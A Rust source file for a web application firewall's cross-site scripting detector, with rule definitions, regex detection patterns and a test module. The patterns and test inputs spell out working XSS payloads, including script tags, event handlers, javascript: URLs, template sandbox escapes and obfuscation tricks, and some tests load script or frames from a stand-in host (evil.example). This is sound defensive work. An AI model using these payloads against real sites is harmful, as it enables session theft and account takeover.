//! Cross-site scripting.
//!
//! Two layers, like the SQL injection detector:
//!
//! * **libinjection's HTML5 tokenizer** (rule 1200) on the decoded value (and on the
//!   canonical one when entity decoding or Unicode folding changed it): it parses the value in
//!   the HTML contexts an injection can land in (text, unquoted/single/double-quoted attribute
//!   values) and flags script-capable tags, event-handler attributes, and URL attributes with a
//!   script scheme. It also flags every `style` attribute, URLs merely starting with `data`
//!   (`href="database.html"`) and doctypes; when the value has nothing that can run script or
//!   load content, the verdict counts as a weaker rule (1201, paranoia 2). So does a verdict
//!   that rests only on backticks read as Internet Explorer read them (in an HTML comment, as
//!   an attribute quote: Markdown's `<!-- … `code` … -->`) or on embedding tags without
//!   attributes (`Local<Object>` in C++). A panic of the tokenizer is caught and reported as
//!   rule 1299, critical: fail closed.
//! * **technique patterns** (rules 1210–1269) on the canonical view (URL-decoded, control
//!   characters removed, HTML entities decoded, full-width and homoglyph forms folded,
//!   lowercase, whitespace compressed), so `&#x6A;avascript:`, `java&#x09;script:`,
//!   `＜ｓｃｒｉｐｔ＞` and `%u003cscript` are all seen as what a browser would parse. Paranoia 1
//!   patterns describe script execution (script tags, event handlers in tags, script URL
//!   schemes, embedding tags, CSS expressions, template-sandbox escapes, DOM sinks, JavaScript
//!   string breakouts); paranoia 2–4 progressively flag HTML tags that can carry script, then
//!   any tag, then any HTML meta character.
//!
//! A value without any character an XSS vector needs (`<`, `>`, quotes, backtick, `=`, `(`,
//! `\`, `{`) and without a script scheme or UTF-7 marker is dismissed after one byte scan; one
//! whose only such characters may be encoded (`%`, `&`, non-ASCII) is scanned again in its
//! canonical form.

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};

use crate::model::{Class, Finding, Rule, Severity, Target};
use crate::transform::{View, Views};

const fn rule(id: u32, severity: Severity, paranoia: u8, description: &'static str) -> Rule {
    Rule {
        id,
        class: Class::Xss,
        severity,
        paranoia,
        description,
    }
}

use Severity::{Critical, Error, Warning};

const R_LIBINJECTION: Rule = rule(
    1200,
    Critical,
    1,
    "XSS vector recognised by the libinjection HTML5 tokenizer (script-capable tag, event handler or script URL in an HTML context)",
);
const R_LIBINJECTION_STYLE: Rule = rule(
    1201,
    Critical,
    2,
    "HTML flagged by the libinjection HTML5 tokenizer without any script-capable construct (plain inline styles, links to paths starting with \"data\", doctype, backticks read as Internet Explorer read them, embedding tags without attributes)",
);
const R_SCRIPT_TAG: Rule = rule(1210, Critical, 1, "Script element (<script>, </script>)");
const R_EVENT_HANDLER: Rule = rule(
    1211,
    Critical,
    1,
    "Event handler attribute (onerror=, onload=, onmouseover= …) in a tag or after an attribute-value breakout",
);
const R_SCRIPT_URL: Rule = rule(
    1212,
    Critical,
    1,
    "Script URL scheme (javascript:, vbscript:, data:text/html …), including whitespace and entity obfuscation",
);
const R_EMBED_TAG: Rule = rule(
    1213,
    Critical,
    1,
    "Tag that embeds or redirects documents and code, with attributes (<iframe src=, <object data=, <embed, <applet, <base href=, <meta http-equiv, <link rel=import)",
);
const R_CSS_SCRIPT: Rule = rule(
    1214,
    Critical,
    1,
    "Script in CSS: expression(), -moz-binding, behavior: url(), @import of a stylesheet",
);
const R_DANGEROUS_ATTR: Rule = rule(
    1215,
    Critical,
    1,
    "HTML attribute that loads or runs content (srcdoc=, formaction=, xlink:href= to a script)",
);
const R_TEMPLATE: Rule = rule(
    1216,
    Critical,
    1,
    "Client-side template injection / AngularJS sandbox escape ({{constructor.constructor(…)()}}, {{$eval(…)}})",
);
const R_DOM_SINK: Rule = rule(
    1217,
    Critical,
    1,
    "JavaScript DOM sink or code-from-string call (document.cookie, document.write(, .innerHTML=, String.fromCharCode(, eval(atob(…)))",
);
const R_JS_BREAKOUT: Rule = rule(
    1218,
    Critical,
    1,
    "JavaScript string breakout followed by a call (\";alert(1)//, '-alert(1)-', </script><script>)",
);
const R_UTF7: Rule = rule(
    1219,
    Critical,
    1,
    "UTF-7 encoded angle brackets (+ADw-, +AD4-) smuggling tags past filters",
);
const R_XML_VECTOR: Rule = rule(
    1220,
    Critical,
    1,
    "XML and legacy script vectors: <?import, <?xml-stylesheet, XBL/HTC handlers, namespaced script elements, XML data islands, JavaScript entities (&{…})",
);
const R_TAG_SCRIPT_BODY: Rule = rule(
    1221,
    Critical,
    1,
    "Tag immediately followed by a script call (<tag>alert(1))",
);
const R_ACTIVE_TAG: Rule = rule(
    1240,
    Critical,
    2,
    "HTML element that can carry script or styles (<svg>, <math>, <style>, <img>, <form>, <input>, <a>, <body> …)",
);
const R_JS_CALL: Rule = rule(
    1241,
    Critical,
    2,
    "JavaScript dialog or eval call (alert(, prompt(, confirm(, eval(, with parentheses or backticks)",
);
const R_ATTR_BREAKOUT: Rule = rule(
    1242,
    Critical,
    2,
    "Attribute-value breakout: a quote or angle bracket followed by a new attribute or tag",
);
const R_HTML_COMMENT: Rule = rule(
    1243,
    Warning,
    2,
    "HTML comment, CDATA section or conditional comment (<!--, -->, <![CDATA[, --!>)",
);
const R_JS_ESCAPE: Rule = rule(
    1244,
    Warning,
    2,
    "JavaScript escape of an angle bracket or quote (\\x3c, \\u003c, \\x22)",
);
const R_ANY_TAG: Rule = rule(1250, Critical, 3, "HTML tag or closing tag of any name");
const R_HTML_META: Rule = rule(
    1260,
    Warning,
    4,
    "HTML meta character (<, >, quote, backtick) in the value",
);
const R_HTML_META_MANY: Rule = rule(
    1261,
    Error,
    4,
    "Several HTML meta characters (<, >, quotes, backticks, =) in one value",
);
const R_TOKENIZER_FAILED: Rule = rule(
    1299,
    Critical,
    1,
    "HTML tokenizer failed on this value (fail closed: a value the tokenizer cannot inspect is treated as an attack)",
);

/// The XSS rule catalogue.
pub static RULES: &[Rule] = &[
    R_LIBINJECTION,
    R_LIBINJECTION_STYLE,
    R_SCRIPT_TAG,
    R_EVENT_HANDLER,
    R_SCRIPT_URL,
    R_EMBED_TAG,
    R_CSS_SCRIPT,
    R_DANGEROUS_ATTR,
    R_TEMPLATE,
    R_DOM_SINK,
    R_JS_BREAKOUT,
    R_UTF7,
    R_XML_VECTOR,
    R_TAG_SCRIPT_BODY,
    R_ACTIVE_TAG,
    R_JS_CALL,
    R_ATTR_BREAKOUT,
    R_HTML_COMMENT,
    R_JS_ESCAPE,
    R_ANY_TAG,
    R_HTML_META,
    R_HTML_META_MANY,
    R_TOKENIZER_FAILED,
];

// Building blocks (patterns run on the lowercase canonical view, ASCII mode).
//
// JS: `javascript`, letters possibly separated by whitespace (tabs and newlines inside a scheme
//     are ignored by browsers; the canonical view turns them into spaces).
macro_rules! js_scheme {
    () => {
        r"(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|l\s*i\s*v\s*e\s*s\s*c\s*r\s*i\s*p\s*t|m\s*o\s*c\s*h\s*a)\s*:"
    };
}
/// DOM event handler names (the HTML, SVG and legacy IE vocabularies).
macro_rules! events {
    () => {
        r"(?:abort|activate|afterprint|afterscriptexecute|afterupdate|animationcancel|animationend|animationiteration|animationstart|auxclick|beforeactivate|beforecopy|beforecut|beforedeactivate|beforeeditfocus|beforeinput|beforepaste|beforeprint|beforescriptexecute|beforetoggle|beforeunload|beforeupdate|begin|blur|bounce|canplay|canplaythrough|cellchange|change|click|close|contextmenu|controlselect|copy|cuechange|cut|dataavailable|datasetchanged|datasetcomplete|dblclick|deactivate|drag|dragdrop|dragend|dragenter|dragexit|dragleave|dragover|dragstart|drop|durationchange|emptied|end|ended|error|errorupdate|filterchange|finish|focus|focusin|focusout|formchange|forminput|fullscreenchange|hashchange|help|input|invalid|keydown|keypress|keyup|layoutcomplete|load|loadeddata|loadedmetadata|loadend|loadstart|losecapture|message|mousedown|mouseenter|mouseleave|mousemove|mouseout|mouseover|mouseup|mousewheel|move|moveend|movestart|mozfullscreenchange|offline|online|pagehide|pageshow|paste|pause|play|playing|pointercancel|pointerdown|pointerenter|pointerleave|pointermove|pointerout|pointerover|pointerrawupdate|pointerup|popstate|progress|propertychange|ratechange|readystatechange|repeat|reset|resize|rowenter|rowexit|rowsdelete|rowsinserted|scroll|scrollend|search|securitypolicyviolation|seeked|seeking|select|selectionchange|selectstart|show|stalled|start|storage|submit|suspend|timeupdate|toggle|touchcancel|touchend|touchmove|touchstart|transitioncancel|transitionend|transitionrun|transitionstart|unload|volumechange|waiting|webkitanimationend|webkitanimationiteration|webkitanimationstart|webkittransitionend|wheel)"
    };
}
/// JavaScript functions attackers call to prove execution or run a payload.
macro_rules! js_exec {
    () => {
        r"(?:alert|prompt|confirm|eval|print|fetch|atob|open|settimeout|setinterval|function|import|top\s*\[|window\s*\[|self\s*\[|this\s*\[|parent\s*\[|globalthis\s*\[|constructor|document\.|location)"
    };
}
/// Those of [`js_exec`] that still run a payload called as a template tag (`` alert`1` ``,
/// `` setTimeout`…` ``, `` top[`alert`] ``): `eval`, `import`, `atob` and `location` do not
/// (`` eval`x` `` returns its strings unevaluated, `` import`x` `` does not parse), so a
/// Markdown code span naming a flag (`` `--eval` ``, `` `--import` ``) is no breakout.
macro_rules! js_tag {
    () => {
        r"(?:alert|prompt|confirm|print|fetch|open|settimeout|setinterval|function|top\s*\[|window\s*\[|self\s*\[|this\s*\[|parent\s*\[|globalthis\s*\[|constructor)"
    };
}

struct Pattern {
    rule: &'static Rule,
    regex: &'static str,
}

const fn p(rule: &'static Rule, regex: &'static str) -> Pattern {
    Pattern { rule, regex }
}

/// Every technique pattern (on the canonical view). Several patterns may share a rule (one
/// finding per rule).
static PATTERNS: &[Pattern] = &[
    // --- paranoia 1 ---------------------------------------------------------------------
    p(&R_SCRIPT_TAG, r"</?(?:[a-z]+:)?script(?:[\s/>]|$)"),
    p(
        &R_EVENT_HANDLER,
        r#"<[a-z!?/][^>]*?[\s/"'`;+]on[a-z]{3,}[^\s=>]*\s*="#,
    ),
    p(
        &R_EVENT_HANDLER,
        concat!(
            r#"(?:^|['"`\s/;+])on"#,
            events!(),
            r#"\s*=\s*(?:['"`][^'"`]*?[(`=]|[^\s'"`>]*?[(`=]|['"`]?\s*"#,
            js_scheme!(),
            r")"
        ),
    ),
    p(
        &R_SCRIPT_URL,
        r"(?:^|[^a-z0-9])(?:javascript|vbscript|livescript|mocha):[^\s]",
    ),
    p(
        &R_SCRIPT_URL,
        concat!(r#"(?:=|url\s*\()\s*['"`]?\s*"#, js_scheme!()),
    ),
    p(
        &R_SCRIPT_URL,
        concat!(r#"(?:^|['"`])\s*"#, js_scheme!(), r"[^\s]"),
    ),
    p(
        &R_SCRIPT_URL,
        r"data\s*:\s*(?:text/(?:html|xml|javascript|ecmascript|x-scriptlet|vbscript)|application/(?:xhtml\+xml|xml|javascript|ecmascript|x-shockwave-flash|x-javascript|hta)|image/svg\+xml\s*[;,]\s*(?:base64\s*,\s*)?[^\s]*(?:<|phn2z))",
    ),
    p(
        &R_EMBED_TAG,
        r"<(?:iframe|frame|frameset|object|embed|applet|base|bgsound|isindex|xss|portal|layer|ilayer)[\s/]",
    ),
    p(
        &R_EMBED_TAG,
        r"<meta\b[^>]*?(?:http-equiv|url\s*=|charset\s*=\s*['\x22]?\s*utf-7)",
    ),
    p(&R_EMBED_TAG, r"<link\b[^>]*?rel\s*=\s*['\x22]?\s*import"),
    p(
        &R_CSS_SCRIPT,
        r"[:=][\s+]*['\x22]?[\s+]*e(?:\s|/\*.*?\*/)*x(?:\s|/\*.*?\*/)*p(?:\s|/\*.*?\*/)*r(?:\s|/\*.*?\*/)*e(?:\s|/\*.*?\*/)*s(?:\s|/\*.*?\*/)*s(?:\s|/\*.*?\*/)*i(?:\s|/\*.*?\*/)*o(?:\s|/\*.*?\*/)*n(?:\s|/\*.*?\*/)*\(|-moz-binding\s*:|behaviou?r\s*:\s*url\s*\(|@import\s*(?:url\s*\(|['\x22])|<style\b[^>]*>[^<]*?(?:expression\s*\(|url\s*\(|@import|javascript:)",
    ),
    p(
        &R_DANGEROUS_ATTR,
        r#"(?:^|[\s/"'`])(?:srcdoc|formaction)\s*=|(?:^|[\s/"'`])xlink:href\s*=\s*['"`]?\s*(?:javascript|data|vbscript):"#,
    ),
    p(
        &R_TEMPLATE,
        r"\{\{[^}]*?(?:constructor|\$eval|\$on\s*\(|\$emit|__proto__|\$parse|tostring\s*\(\s*\)\s*\.|alert\s*\(|prompt\s*\(|confirm\s*\(|\$event|charat\s*=|fromcharcode|\[\s*['\x22]\w+['\x22]\s*\]\s*\()",
    ),
    p(
        &R_DOM_SINK,
        concat!(
            r"document\s*\.\s*(?:cookie|domain|write(?:ln)?\s*\(|location\s*=)",
            r"|\.\s*(?:inner|outer)html\s*=|\.insertadjacenthtml\s*\(",
            r"|string\s*\.\s*fromcharcode\s*\(",
            r"|(?:^|[^a-z])eval\s*\(\s*(?:atob|unescape|decodeuri|string\.|location|name|window|this|top|self|document|['\x22`]|[a-z_$]\w*\s*\()",
            r"|(?:^|[^a-z])(?:settimeout|setinterval)\s*\(\s*['\x22`]",
            r"|new\s+function\(\s*['\x22`]",
            r"|(?:window|self|top|parent|this|globalthis|frames)\s*\[\s*['\x22`][^\]]*\]\s*\(",
            r"|\.constructor\s*\.\s*constructor\s*\(|\bconstructor\s*\(\s*['\x22`][^'\x22`]*(?:alert|prompt|confirm|eval)"
        ),
    ),
    p(
        &R_JS_BREAKOUT,
        concat!(
            r#"['"`]\s*\)*\s*[;,+\-*/|&^]+\s*(?:"#,
            js_exec!(),
            r"\s*\(|",
            js_tag!(),
            r"\s*`)"
        ),
    ),
    p(&R_JS_BREAKOUT, r"</\s*script\s*>"),
    p(
        &R_JS_BREAKOUT,
        r#"(?:^|[^a-z_$.])(?:alert|prompt|confirm|eval)\s*(?:\([^()]*\)|`[^`]*`)\s*[;/'"`]*\s*>"#,
    ),
    p(&R_UTF7, r"\+ad[w4]-"),
    p(
        &R_XML_VECTOR,
        r"<\?\s*(?:import|xml-stylesheet)\b|<[a-z]+:(?:script|handler|listener)\b|<(?:handler|listener)\b[^>]*>|xmlns\s*:\s*\w+\s*=\s*['\x22]?\s*(?:urn:schemas-microsoft-com|http://www\.w3\.org/1999/xhtml)|\.htc\b|-o-link\s*:|<xsl:(?:stylesheet|transform|template)\b|<!entity\b|<!doctype[^>]*\[|(?:^|[\s/'\x22])ev:(?:handler|event)\s*=|<\?xml:namespace\b|urn:schemas-microsoft-com:(?:time|vml)|=\s*['\x22]?\s*&\{|<xml\b|(?:^|[\s/'\x22])(?:datasrc|datafld|dataformatas)\s*=",
    ),
    p(
        &R_TAG_SCRIPT_BODY,
        concat!(r"<[a-z][^>]*>\s*", r"(?:alert|prompt|confirm|eval)\s*[(`]"),
    ),
    // --- paranoia 2 ---------------------------------------------------------------------
    p(
        &R_ACTIVE_TAG,
        r"<(?:svg|math|style|form|input|button|video|audio|img|image|body|html|marquee|details|template|animate|animatemotion|animatetransform|set|a|xml|keygen|textarea|select|source|track|table|td|th|div|span|title|head|xmp|plaintext|noscript|listing|link|meta|param|isindex|dialog|picture|canvas|foreignobject|use|discard|frame)(?:[\s/>]|$)",
    ),
    p(
        &R_ACTIVE_TAG,
        r#"<[a-z][a-z0-9-]*[\s/]+[a-z:-]+\s*=\s*['"`]?"#,
    ),
    p(
        &R_JS_CALL,
        r"(?:^|[^a-z_$.])(?:alert|prompt|confirm|eval)\s*(?:\(|`)",
    ),
    p(
        &R_ATTR_BREAKOUT,
        r#"['"]\s*/?\s*>|['"]\s*/?\s*<[a-z/!]|['"][\s/]+[a-z-]+\s*=\s*['"`]?"#,
    ),
    p(&R_HTML_COMMENT, r"<!--|-->|--!>|<!\[cdata\[|<!\s*\[\s*if"),
    p(
        &R_JS_ESCAPE,
        r"\\u00?(?:3c|3e|22|27)|\\x(?:3c|3e|22|27)|\\(?:074|076|042|047)",
    ),
    // --- paranoia 3 ---------------------------------------------------------------------
    p(&R_ANY_TAG, r"</?[a-z!?]"),
    // --- paranoia 4 ---------------------------------------------------------------------
    p(&R_HTML_META, r#"[<>"'`]"#),
];

/// The compiled patterns of one paranoia tier (paranoia 1, or 2 and above).
struct TierSet {
    paranoia: u8,
    set: RegexSet,
    members: Vec<(&'static Rule, Regex)>,
}

/// Compiles a pattern (ASCII mode), or logs and skips it if it does not compile: the test
/// suite asserts every pattern compiles.
fn compile(pattern: &str) -> Option<Regex> {
    match RegexBuilder::new(pattern)
        .unicode(false)
        .dot_matches_new_line(true)
        .build()
    {
        Ok(r) => Some(r),
        Err(e) => {
            tracing::error!(pattern, error = %e, "XSS pattern does not compile; rule disabled");
            None
        }
    }
}

fn build_tier(strict: bool) -> TierSet {
    let mut members = Vec::new();
    let mut sources = Vec::new();
    for pat in PATTERNS.iter().filter(|p| (p.rule.paranoia > 1) == strict) {
        if let Some(re) = compile(pat.regex) {
            members.push((pat.rule, re));
            sources.push(pat.regex);
        }
    }
    let set = match RegexSetBuilder::new(&sources)
        .unicode(false)
        .dot_matches_new_line(true)
        .build()
    {
        Ok(s) => s,
        Err(e) => {
            tracing::error!(error = %e, "XSS pattern set does not compile; patterns disabled");
            members.clear();
            RegexSet::empty()
        }
    };
    TierSet {
        paranoia: if strict { 2 } else { 1 },
        set,
        members,
    }
}

static COMPILED: LazyLock<[TierSet; 2]> = LazyLock::new(|| [build_tier(false), build_tier(true)]);

/// What makes HTML able to run script or load content besides inline styles.
const SCRIPTISH: &str = r"script|\bon[a-z]+[^=]*=|javascript|vbscript|livescript|mocha|data\s*:|<(?:iframe|frame|object|embed|applet|base|meta|link|svg|math|form|isindex|xml|import|handler|listener|template|portal|style|[a-z]+:|\?|!entity|!doctype[^>]*\[)|srcdoc|formaction|xlink|ev:|urn:schemas|&\{|\{\{|\\";
/// A style attribute and its value.
const STYLE_ATTR: &str = r#"style\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']*))"#;
/// Plain CSS declarations: property names, keywords, numbers, lengths, colours (also
/// `rgb()`), font names; no `url()`, `expression()`, escapes, comments, braces or brackets.
const PLAIN_DECLARATIONS: &str =
    r#"^\s*(?:[a-z-]+\s*:\s*(?:[a-z0-9#%.,\s'"!-]|rgba?\(\s*[0-9.,\s%]*\))*;?\s*)*$"#;

static STYLE_CHECK: LazyLock<Option<[Regex; 3]>> = LazyLock::new(|| {
    Some([
        compile(SCRIPTISH)?,
        compile(STYLE_ATTR)?,
        compile(PLAIN_DECLARATIONS)?,
    ])
});

/// Whether a libinjection verdict on `canonical` rests on nothing that can run script or load
/// content: libinjection flags every `style` attribute, every URL attribute starting with
/// `data` (`href="database.html"`) and doctypes, which rich-text and documentation HTML
/// contain. Such a verdict is demoted to rule 1201 (paranoia 2) when the value has no
/// [`SCRIPTISH`] construct and its styles are plain declarations; styles with `url(`,
/// `expression(`, bindings, comments, escapes or parser-confusing characters stay with rule
/// 1200.
fn harmless_markup(canonical: &[u8]) -> bool {
    let Some([scriptish, attr, plain]) = STYLE_CHECK.as_ref() else {
        return false;
    };
    if scriptish.is_match(canonical) {
        return false;
    }
    for caps in attr.captures_iter(canonical) {
        let value = caps.get(1).or(caps.get(2)).or(caps.get(3));
        if !value.is_some_and(|v| plain.is_match(v.as_bytes())) {
            return false;
        }
    }
    true
}

/// Elements that load or run nothing without attributes (what they embed or change comes from
/// `src`, `data`, `href`, `http-equiv` …): libinjection flags them bare, as C++, Rust and Java
/// generics write them (`Local<Object>`, `Option<Frame>`, `Vec<Link>`).
const INERT_BARE_TAGS: &[&[u8]] = &[
    b"object",
    b"embed",
    b"applet",
    b"iframe",
    b"frame",
    b"frameset",
    b"base",
    b"link",
    b"meta",
];

/// Whether libinjection's verdict on `input` rests only on markup no browser in use acts on:
/// backticks read as Internet Explorer read them (a comment holding one ends a tag there, a
/// backtick quotes an attribute value), which Markdown puts in HTML comments
/// (`` <!-- YAML … `options` … --> ``) and code spans; and the [`INERT_BARE_TAGS`] written
/// without attributes (`<object>`). The value is tokenized again with every backtick and the
/// `<` of every such bare tag read as a space: clean then, the verdict counts as rule 1201.
fn rests_on_inert_markup(input: &[u8]) -> bool {
    let input = input.get(..TOKENIZER_MAX).unwrap_or(input);
    let mut copy = input.to_vec();
    let mut changed = false;
    for i in 0..copy.len() {
        let bare_tag = |name: &[u8]| {
            input
                .get(i + 1..i + 1 + name.len())
                .is_some_and(|t| t.eq_ignore_ascii_case(name))
                && input.get(i + 1 + name.len()) == Some(&b'>')
        };
        match copy.get(i) {
            Some(b'`') => {}
            Some(b'<') if INERT_BARE_TAGS.iter().any(|n| bare_tag(n)) => {}
            _ => continue,
        }
        if let Some(b) = copy.get_mut(i) {
            *b = b' ';
            changed = true;
        }
    }
    changed && tokenize(&copy) == Some(false)
}

/// Forces pattern compilation (at start-up rather than on the first request).
pub fn warm_up() {
    LazyLock::force(&COMPILED);
}

/// What a byte scan says about a value before any decoding.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Scan {
    /// A character some rule needs: inspect.
    Meta,
    /// Only characters that decoding may turn into meta characters (`%`, `&`, non-ASCII,
    /// controls): look again at the canonical view.
    Encoded,
    /// Neither: only a script URL scheme or UTF-7 can make it suspicious.
    Plain,
}

/// Scans for the characters XSS vectors need: tag and attribute syntax, quotes, calls,
/// escapes and template braces.
fn scan(value: &[u8]) -> Scan {
    let mut encoded = false;
    for &b in value {
        match b {
            b'<' | b'>' | b'"' | b'\'' | b'`' | b'=' | b'(' | b'\\' | b'{' => return Scan::Meta,
            b'%' | b'&' | 0x80..=0xff | 0x00..=0x1f | 0x7f => encoded = true,
            _ => {}
        }
    }
    if encoded { Scan::Encoded } else { Scan::Plain }
}

/// Words that make a value without tag or call syntax suspicious: script URL schemes
/// (`javascript:alert…` needs no other meta character) and UTF-7 (`+ADw-`).
const PLAIN_WORDS: &[&str] = &["script:", "mocha:", "data:", "+ad"];

static PLAIN_WORDS_AC: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .build(PLAIN_WORDS)
        .map_err(|e| tracing::error!(error = %e, "XSS word prefilter does not build; every value is inspected"))
        .ok()
});

/// Whether a value without meta characters still needs a look (a scheme, UTF-7).
fn plain_words(value: &[u8]) -> bool {
    PLAIN_WORDS_AC.as_ref().is_none_or(|ac| ac.is_match(value))
}

/// The most bytes handed to the tokenizer. It parses the whole input in several HTML contexts
/// (about 30–40 ns per byte); the cap bounds that on very large values, which the patterns
/// still see whole.
const TOKENIZER_MAX: usize = 16 * 1024;

/// libinjection's verdict: `Some(true)` XSS, `Some(false)` clean, `None` the tokenizer
/// panicked.
///
/// The tokenizer can only flag a value with a `<` or a `=` in it (within the bytes it reads):
/// doctypes, tags and comments start at a `<` in its data state, and an attribute value after
/// a dangerous attribute name (`onerror`, `style`, `href` …) follows a `=` (the attribute
/// value contexts start inside a value no attribute name precedes). Without either it is not
/// run.
fn tokenize(input: &[u8]) -> Option<bool> {
    let read = input.get(..TOKENIZER_MAX).unwrap_or(input);
    if !read.iter().any(|&b| b == b'<' || b == b'=') {
        return Some(false);
    }
    guarded(input, |input| {
        libinjectionrs::detect_xss(input).is_injection()
    })
}

/// Runs a tokenizer on at most [`TOKENIZER_MAX`] bytes, turning a panic into `None`.
fn guarded(input: &[u8], tokenizer: impl FnOnce(&[u8]) -> bool) -> Option<bool> {
    let input = input.get(..TOKENIZER_MAX).unwrap_or(input);
    catch_unwind(AssertUnwindSafe(|| tokenizer(input))).ok()
}

/// Where the findings of one target go: at most one per rule, only rules of the route's
/// paranoia.
struct Sink<'s, 't> {
    target: &'s Target<'t>,
    paranoia: u8,
    /// Rules already reported (bit `id - 1200`).
    seen: u128,
    out: &'s mut Vec<Finding>,
}

impl Sink<'_, '_> {
    fn bit(rule: &Rule) -> u128 {
        1u128 << (rule.id.saturating_sub(1200) & 127)
    }

    fn wants(&self, rule: &Rule) -> bool {
        rule.paranoia <= self.paranoia && self.seen & Self::bit(rule) == 0
    }

    fn emit(&mut self, rule: &'static Rule, view: View, matched: &str) {
        if self.wants(rule) {
            self.seen |= Self::bit(rule);
            self.out
                .push(Finding::new(rule, self.target, view, matched));
        }
    }
}

/// The number of HTML meta characters, counting up to `limit`.
fn count_meta(value: &[u8], limit: usize) -> usize {
    let mut n = 0;
    for &b in value {
        if matches!(b, b'<' | b'>' | b'"' | b'\'' | b'`' | b'=') {
            n += 1;
            if n >= limit {
                break;
            }
        }
    }
    n
}

/// Turns a tokenizer verdict on the value under `view` into a finding.
fn report_tokenizer(sink: &mut Sink<'_, '_>, views: &mut Views, view: View, verdict: Option<bool>) {
    match verdict {
        Some(false) => {}
        Some(true) => {
            let rule = if harmless_markup(views.get(View::Canonical).as_bytes())
                || rests_on_inert_markup(views.get(view).as_bytes())
            {
                &R_LIBINJECTION_STYLE
            } else {
                &R_LIBINJECTION
            };
            sink.emit(rule, view, views.get(view));
        }
        None => {
            tracing::warn!(target = %sink.target, "libinjection HTML tokenizer panicked; failing closed");
            sink.emit(&R_TOKENIZER_FAILED, view, views.get(view));
        }
    }
}

/// libinjection on the decoded value, then on the canonical one when entity decoding or
/// Unicode folding may have revealed more.
fn tokenizer_passes(sink: &mut Sink<'_, '_>, views: &mut Views) {
    let decoded = views.get(View::Decoded);
    let reveal = decoded.bytes().any(|b| b == b'&' || b >= 0x80);
    let mut view = View::Decoded;
    let mut verdict = tokenize(decoded.as_bytes());
    if verdict == Some(false) && reveal {
        view = View::Canonical;
        verdict = tokenize(views.get(View::Canonical).as_bytes());
    }
    report_tokenizer(sink, views, view, verdict);
}

/// Inspects one value for cross-site scripting.
pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Finding>) {
    let raw = t.value.as_bytes();
    if raw.is_empty() {
        return;
    }
    match scan(raw) {
        Scan::Meta => {}
        Scan::Plain => {
            if !plain_words(raw) {
                return;
            }
        }
        Scan::Encoded => {
            let canonical = views.get(View::Canonical).as_bytes();
            if scan(canonical) != Scan::Meta && !plain_words(canonical) {
                return;
            }
        }
    }
    let mut sink = Sink {
        target: t,
        paranoia,
        seen: 0,
        out,
    };

    tokenizer_passes(&mut sink, views);

    let text = views.get(View::Canonical);
    let bytes = text.as_bytes();
    for tier in COMPILED.iter() {
        if tier.paranoia > paranoia || !tier.set.is_match(bytes) {
            continue;
        }
        for (rule, re) in &tier.members {
            if !sink.wants(rule) {
                continue;
            }
            if let Some(m) = re.find(bytes) {
                sink.emit(rule, View::Canonical, text.get(m.range()).unwrap_or(text));
            }
        }
    }

    if sink.wants(&R_HTML_META_MANY) && count_meta(bytes, 4) >= 4 {
        sink.emit(&R_HTML_META_MANY, View::Canonical, text);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Location, Part};

    fn run(value: &str, paranoia: u8) -> Vec<Finding> {
        let t = Target::new(Location::Query, "q", Part::Value, value);
        let mut views = Views::new();
        views.load(value);
        let mut out = Vec::new();
        inspect(&t, &mut views, paranoia, &mut out);
        out
    }

    fn rules(value: &str, paranoia: u8) -> Vec<u32> {
        run(value, paranoia).iter().map(|f| f.rule).collect()
    }

    fn score(value: &str, paranoia: u8) -> u32 {
        run(value, paranoia)
            .iter()
            .map(|f| f.severity.score())
            .sum()
    }

    #[test]
    fn every_pattern_compiles() {
        for pat in PATTERNS {
            assert!(
                compile(pat.regex).is_some(),
                "pattern does not compile: {}",
                pat.regex
            );
        }
        assert!(STYLE_CHECK.is_some());
        assert!(PLAIN_WORDS_AC.is_some());
        let members: usize = COMPILED.iter().map(|t| t.members.len()).sum();
        assert_eq!(members, PATTERNS.len());
        for tier in COMPILED.iter() {
            assert_eq!(tier.set.len(), tier.members.len());
        }
    }

    #[test]
    fn rule_ids_are_unique_and_in_range() {
        let mut ids: Vec<u32> = RULES.iter().map(|r| r.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), RULES.len());
        for r in RULES {
            assert!((1200..=1299).contains(&r.id));
            assert!((1..=4).contains(&r.paranoia));
            assert_eq!(r.class, Class::Xss);
        }
        for pat in PATTERNS {
            assert!(
                RULES
                    .iter()
                    .any(|r| r.id == pat.rule.id && r.paranoia == pat.rule.paranoia)
            );
        }
    }

    #[track_caller]
    fn assert_rule(value: &str, id: u32) {
        let got = rules(value, 1);
        assert!(
            got.contains(&id),
            "{value:?}: expected rule {id}, got {got:?}"
        );
    }

    #[track_caller]
    fn assert_blocked(value: &str, paranoia: u8) {
        let s = score(value, paranoia);
        assert!(
            s >= 5,
            "{value:?} at PL{paranoia}: score {s} ({:?})",
            rules(value, paranoia)
        );
    }

    #[track_caller]
    fn assert_passes(value: &str, paranoia: u8) {
        let got = run(value, paranoia);
        assert!(got.is_empty(), "{value:?} at PL{paranoia}: {got:#?}");
    }

    #[test]
    fn techniques_at_paranoia_1() {
        assert_rule("<script>alert(1)</script>", 1210);
        assert_rule("<ScRiPt src=//evil.example/x.js>", 1210);
        assert_rule("<img src=x onerror=alert(1)>", 1211);
        assert_rule("<svg/onload=alert(1)>", 1211);
        assert_rule("\" onmouseover=\"alert(1)\" x=\"", 1211);
        assert_rule("' autofocus onfocus=alert`1` '", 1211);
        assert_rule("<a href=\"javascript:alert(1)\">x</a>", 1212);
        assert_rule("javascript:alert(document.domain)", 1212);
        assert_rule("vbscript:msgbox(1)", 1212);
        assert_rule("<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", 1212);
        assert_rule("<iframe src=//evil.example>", 1213);
        assert_rule("<object/data=//evil.example/x.swf>", 1213);
        assert_rule(
            "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
            1213,
        );
        assert_rule("<div style=\"width:expression(alert(1))\">", 1214);
